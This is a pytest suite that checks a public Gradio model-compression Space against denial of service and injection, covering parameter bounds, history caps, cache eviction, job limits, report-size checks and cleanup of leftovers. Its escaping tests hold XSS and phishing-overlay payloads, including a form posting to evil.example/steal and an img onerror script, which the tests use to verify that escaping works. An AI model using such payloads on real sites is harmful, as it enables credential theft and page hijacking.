"""Issue #27: one anonymous user of a public Space cannot stop or crash it. Every size a request or an
uploaded file sets has a bound checked before any work, report text is escaped, caches evict,
and leftovers of killed jobs are removed at start. Everything runs on a tiny random model."""
import json
import os
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest
import torch

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")
gr = pytest.importorskip("gradio")

from conftest import tiny_model  # noqa: E402
from ui import runs as R  # noqa: E402
from ui.chat import MAX_HISTORY_MESSAGE_CHARS, MAX_HISTORY_MESSAGES, ChatError, check_history  # noqa: E402
from ui.common import md_code, md_text, queue_settings  # noqa: E402
from ui.store import MAX_REFERENCES, LRU, ModelStore  # noqa: E402

pytestmark = [pytest.mark.filterwarnings("ignore:.*no_silent_downcasting"),
              pytest.mark.filterwarnings("ignore:The copy keyword is deprecated")]

from hardening_helpers import (dense_folder, loaded, refused, refused_load, report_for,
                               run_members, tabs, upload, zip_bytes)  # noqa: E402,F401  (fixtures by name)


# --- High: /heal bounds, checked before any work -------------------------------------------------------
@pytest.mark.parametrize("bad,message", [
    ({"tokens": 10**15}, "tokens must be at most"), ({"lora_rank": 10**9}, "lora_rank must be at most"),
    ({"seq_len": 10**7}, "seq_len must be at most"), ({"batch_size": 10**6}, "batch_size must be at most"),
    ({"grad_accum": 10**6}, "grad_accum must be at most"), ({"offset": 10**20}, "offset must be at most"),
    ({"tokens": 10**9, "seq_len": 2, "batch_size": 1}, "optimizer steps; the limit"),
])
def test_heal_config_has_upper_bounds(bad, message):
    from compression.heal import HealConfig

    with pytest.raises(ValueError, match=message):
        HealConfig(**{"tokens": 10_000, **bad})


def test_heal_rank_and_length_must_fit_the_model():
    from compression.heal import HealConfig, check_fits, heal

    model = tiny_model("llama", layers=1)  # 64 wide: k_proj is 64 → 32
    before = {k: v.clone() for k, v in model.state_dict().items()}
    with pytest.raises(ValueError, match="smallest dimension of the layers it adapts \\(32\\)"):
        check_fits(HealConfig(tokens=4096, seq_len=32, lora_rank=1000), model)
    with pytest.raises(ValueError, match="exceeds the model's 256 positions"):
        check_fits(HealConfig(tokens=4096, seq_len=512), model)
    with pytest.raises(ValueError, match="exceeds the model's 100 positions"):
        check_fits(HealConfig(tokens=4096, seq_len=128), model, context=100)
    check_fits(HealConfig(tokens=4096, seq_len=32, lora_rank=32), model)
    with pytest.raises(ValueError, match="smallest dimension"):
        heal(model, None, HealConfig(tokens=4096, seq_len=32, lora_rank=33), text="x")  # before tokenizing
    assert all(torch.equal(v, before[k]) for k, v in model.state_dict().items())


@pytest.mark.parametrize("kw,message", [({"tokens": 10**15}, "tokens must be at most"),
                                        ({"lora_rank": 10**9}, "lora_rank must be at most"),
                                        ({"lora_rank": 1000}, "smallest dimension")])
def test_heal_endpoint_refuses_sizes_over_the_bounds(tabs, dense_folder, kw, message):
    session = loaded(tabs, dense_folder)
    args = {"tokens": 4096, "lora_rank": 2, "seq_len": 64, "ppl_windows": 0, **kw}
    t0 = time.monotonic()
    assert message in refused(tabs.compress.heal, session, "r1", outputs=3, status=1, **args)
    assert time.monotonic() - t0 < 30 and session.get("r1").report.get("heal") is None


# --- Medium: chat history within the caps, truncation by the served model's context --------------------
def test_history_is_checked_before_tokenizing():
    assert check_history(None) == [] and len(check_history([{"role": "user", "content": "hi"}] * 3)) == 3
    with pytest.raises(ChatError, match=f"the limit is {MAX_HISTORY_MESSAGES}"):
        check_history([{"role": "user", "content": "hi"}] * (MAX_HISTORY_MESSAGES + 1))
    with pytest.raises(ChatError, match="over the limit"):
        check_history([{"role": "user", "content": "x" * (MAX_HISTORY_MESSAGE_CHARS + 1)}])
    with pytest.raises(ChatError, match="list of messages"):
        check_history("not a list")
    with pytest.raises(ChatError, match="list of messages"):
        check_history([5])


def test_a_32_mb_history_is_refused_at_once(tabs, dense_folder):
    history = [{"role": "user", "content": "word " * 3200}, {"role": "assistant", "content": "ok"}] * 1000
    session = R.Session()
    t0 = time.monotonic()
    message = refused(tabs.chat.chat, session, "Hi", history, [], None, dense_folder, outputs=5, status=5,
                      run_ids=[])
    assert "clear the chat" in message and time.monotonic() - t0 < 10


def test_history_is_cut_to_the_served_context_not_the_uploaded_config(tabs, dense_folder):
    session = loaded(tabs, dense_folder, config={"max_position_embeddings": 1_000_000})
    run_model = session.get("r1").model
    assert run_model.config.max_position_embeddings == 1_000_000
    lengths = []
    hook = run_model.register_forward_pre_hook(lambda m, args, kw: lengths.append(
        (kw.get("input_ids") if kw.get("input_ids") is not None else args[0]).shape[1]), with_kwargs=True)
    long = [{"role": "user", "content": "hello there " * 400}, {"role": "assistant", "content": "ok"}] * 3
    try:
        for _ in tabs.chat.chat(session, "Hi", long, long, None, "", 0.0, 0.9, 4, 1.1, 0, True, run_ids=["r1"]):
            pass
    finally:
        hook.remove()
    assert lengths and max(lengths) <= 2048 - 4  # the dense model's 2048 positions, less the reply


# --- Medium: report strings are escaped where they are shown --------------------------------------------
def test_report_strings_reach_the_inspect_summary_escaped(tabs, dense_folder):
    overlay = ('<div style="position:fixed;inset:0;z-index:9999;background:white">hacked</div>'
               '<form action="https://evil.example/steal"><input name=p></form>'
               '[click](https://evil.example) ![x](https://evil.example/x.png)')
    report = report_for("m`</code><img src=x onerror=alert(1)>`\n\n<div>x</div>",
                        extra={"errors_measured_on": overlay})
    session = R.Session()
    tabs.runs.load_saved(session, upload("report.json", json.dumps(report).encode()), "")
    summary = tabs.inspect.inspect(session, "r1")[2]
    outside_code = summary.split("`")[0] + summary.split("`")[-1]
    assert summary.count("`") == 2  # the model name stays inside one code span
    assert "<div" not in outside_code and "<form" not in outside_code and "](" not in outside_code
    assert "https://evil" not in outside_code  # no autolink either
    assert "\n" not in summary


def test_report_names_shown_in_plots_are_plain(tabs, dense_folder):
    from ui.runs_tab import pareto_runs

    layer = {"index": 0, "spectra": {'<a href="https://evil.example">x</a>': [1.0]}}
    message = refused_load(tabs, json.dumps(report_for(dense_folder, layers=[layer])).encode(), "report.json")
    assert "report.layers[0].spectra has a name" in message
    session = R.Session()
    report = report_for('<a href="https://evil.example">m</a>', ppl_dense=10.0, ppl_compressed=12.0)
    tabs.runs.load_saved(session, upload("report.json", json.dumps(report).encode()), "")
    labels = [p["label"] for p in pareto_runs(session)]
    assert not any("<a" in label for label in labels)
    tabs.runs.view(session)


def test_md_helpers():
    assert md_text("a <b> [l](u) x_y") == "a &lt;b&gt; \\[l\\]\\(u\\) x\\_y"
    assert md_code("a`b\n\nc") == "`aʹb c`"
    assert len(md_text("x" * 10_000)) < 300


# --- Medium: caches are bounded and evict ----------------------------------------------------------------
def test_dense_references_are_kept_lru_by_windows(dense_folder):
    store = ModelStore("cpu")
    model, _ = store.get(dense_folder)
    for n in range(1, MAX_REFERENCES + 3):  # a new ppl_windows value each time
        store.dense.reference(dense_folder, model, torch.randint(0, 100, (n, 16)))
    assert len(store.dense.references) == MAX_REFERENCES


def test_lru_evicts_by_count_and_bytes():
    lru = LRU(3, max_bytes=1000)
    for i in range(5):
        lru[i] = torch.zeros(10)  # 40 bytes
    assert list(lru) == [2, 3, 4]
    lru[2]  # a read counts as use
    lru[5] = torch.zeros(10)
    assert list(lru) == [4, 2, 5]
    lru[6] = torch.zeros(300)  # 1200 bytes: the newest is kept alone
    assert list(lru) == [6]


def test_each_session_keeps_one_download_and_gradio_copies_are_deleted(tabs, dense_folder):
    from gradio.processing_utils import save_file_to_cache
    from gradio.utils import get_upload_folder

    session = loaded(tabs, dense_folder)
    first = Path(tabs.runs.download(session, "r1"))
    copy = Path(save_file_to_cache(first, get_upload_folder()))  # what gradio does with the returned file
    assert copy.exists() and session.served_files == [copy]
    second = Path(tabs.runs.download(session, "r1"))
    assert not copy.exists()  # the earlier copy went
    assert [p.name for p in second.parent.iterdir()] == [second.name]
    copy2 = Path(save_file_to_cache(second, get_upload_folder()))
    session.close()
    assert not copy2.exists()


def test_an_upload_is_deleted_once_it_has_loaded(tabs, dense_folder):
    path = upload("run.zip", zip_bytes(run_members(dense_folder)))
    tabs.runs.load_saved(R.Session(), path, "")
    assert not Path(path).exists()


# --- Medium: one job per session, a bounded queue, calibration within the context -----------------------
def test_one_job_per_session():
    session = R.Session()
    flag = session.start_job()
    t0 = time.monotonic()
    with pytest.raises(R.RunError, match="already running a job"):
        session.start_job(wait=0.3)
    assert time.monotonic() - t0 >= 0.3
    flag.set()  # stopping: no longer counts
    second = session.start_job(wait=0)
    threading.Timer(0.2, session.end_job, [second]).start()
    third = session.start_job(wait=5)  # a cancelled job's generator closes a moment later
    session.end_job(third)
    session.end_job(flag)
    assert not session.busy


def test_chat_while_a_job_of_the_session_runs_is_refused(tabs, dense_folder):
    session = R.Session()
    session.job_wait = 0.2
    session.start_job()
    message = refused(tabs.chat.chat, session, "Hi", [], [], None, dense_folder, outputs=5, status=5, run_ids=[])
    assert "already running a job" in message


def test_queue_is_bounded():
    settings = queue_settings()
    assert isinstance(settings["max_size"], int) and 1 <= settings["max_size"] <= 1000


def test_calibration_length_is_capped_by_the_context(dense_folder):
    store = ModelStore("cpu")
    store.check_calibration_length(dense_folder, 2048)
    with pytest.raises(ValueError, match="longer than the model's context of 2,048 tokens"):
        store.check_calibration_length(dense_folder, 1_048_576)


# --- Low: oversize, deep and odd reports ----------------------------------------------------------------
def test_an_oversize_report_is_refused_with_its_size(tabs, dense_folder, monkeypatch):
    report = report_for(dense_folder, warnings=[], extra={"pad": "x" * (9 << 20)})
    message = refused_load(tabs, json.dumps(report).encode(), "report.json")
    assert "MB; the limit is 8 MB" in message


@pytest.mark.parametrize("depth", [50, 5000, 100_000])
def test_deep_nesting_is_refused_with_a_clear_message(tabs, dense_folder, depth):
    nested = "[" * depth + "]" * depth
    data = json.dumps(report_for(dense_folder)).replace('"params_dense": 1',
                                                        f'"params_dense": 1, "extra": {{"x": {nested}}}')
    message = refused_load(tabs, data.encode(), "report.json")
    assert "nested more than" in message and "Recursion" not in message


@pytest.mark.parametrize("key,value", [("samples", 1.5), ("seq_len", "512"), ("tokens", -1)])
def test_non_integer_calibration_counts_are_refused_at_load(tabs, dense_folder, key, value):
    report = report_for(dense_folder, calibration={"samples": 4, "seq_len": 64, key: value})
    message = refused_load(tabs, json.dumps(report).encode(), "report.json")
    assert f"calibration.{key} must be a non-negative integer" in message


def test_a_loaded_run_can_always_be_downloaded(tabs, dense_folder):
    report = report_for(dense_folder, calibration={"samples": 4, "seq_len": 64, "tokens": 256})
    session = loaded(tabs, dense_folder, **{"report.json": json.dumps(report).encode()})
    assert zipfile.is_zipfile(tabs.runs.download(session, "r1"))


# --- Low: leftovers of killed jobs are removed at start ----------------------------------------------------
def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_leftovers_of_killed_jobs_are_removed_at_start(tmp_path):
    base, root = tmp_path / "tmp", tmp_path / "runs"
    base.mkdir()
    root.mkdir()
    dead = _dead_pid()
    killed = base / f"compression-session-{dead}-abcd1234"
    (killed / "uploads" / "u1-1").mkdir(parents=True)
    (killed / "uploads" / "u1-1" / "model.safetensors").write_bytes(b"x" * 1000)
    live = base / f"compression-session-{os.getpid()}-efgh5678"
    live.mkdir()
    old = base / "compression-session-ijkl9012"  # a version without the pid in the name, 2 h old
    old.mkdir()
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    other = base / "someone-else"
    other.mkdir()
    save = root / ".x_save.k2j4h5g6"  # a killed CLI save (pipeline.save's temporary folder)
    save.mkdir()
    (save / "model.safetensors").write_bytes(b"x")
    os.utime(save, (time.time() - 7200, time.time() - 7200))
    fresh_save = root / ".y_save.a1b2c3d4"  # one being written right now
    fresh_save.mkdir()
    write = root / f".results.json.tmp-{dead}-q1w2e3"  # a killed atomic write
    write.write_text("{")
    user = root / ".my.notes123"  # not ours: a hidden folder with other files
    user.mkdir()
    (user / "notes.doc").write_text("keep")
    os.utime(user, (time.time() - 7200, time.time() - 7200))
    kept = root / "x_save"
    kept.mkdir()

    removed = set(R.clean_leftovers(base, root))
    assert removed == {killed, old, save, write}
    assert live.exists() and other.exists() and fresh_save.exists() and user.exists() and kept.exists()


def test_session_folders_carry_the_process_id(tmp_path):
    session = R.Session(tmp_path)
    assert session.workdir.name.startswith(f"compression-session-{os.getpid()}-")
    assert R.clean_leftovers(tmp_path, tmp_path / "none") == []  # a live session is never removed
    session.close()


def test_handlers_check_context_bounds_before_any_work(tabs, tiny_folder):
    """The wiring: the Compress handler refuses calibration sequences longer than the served model's
    context, Heal a sequence length over it, both before a job starts (the slot stays free)."""
    from app_helpers import _compress, refusal

    context = tabs.ctx.store.info(tiny_folder).context
    assert context is not None
    shown = refusal(_compress, tabs, R.Session(), tiny_folder, calib_len=context + 1, outputs=5, status=1)
    assert "longer than the model's context" in shown and not tabs.ctx.slot.locked()
    session = R.Session()
    assert _compress(tabs, session, tiny_folder)[1].startswith("✔")
    shown = refusal(tabs.compress.heal, session, "r1", tokens=10**6, lora_rank=2, seq_len=context + 1,
                    outputs=3, status=1)
    assert f"model's {context} positions" in shown and not tabs.ctx.slot.locked()


def test_a_save_removes_what_a_killed_save_of_the_same_folder_left(tmp_path):
    from compression.pipeline import save

    dead = 2 ** 22 + 12345  # no such process
    stale = tmp_path / f".out.save-{dead}-abc123"
    stale.mkdir()
    (stale / "model.safetensors").write_bytes(b"x" * 1000)
    model = tiny_model("llama")
    save(tmp_path / "out", model, None, {"method": "layerdrop", "model": "tiny", "config": {}})
    assert not stale.exists() and (tmp_path / "out" / "report.json").exists()
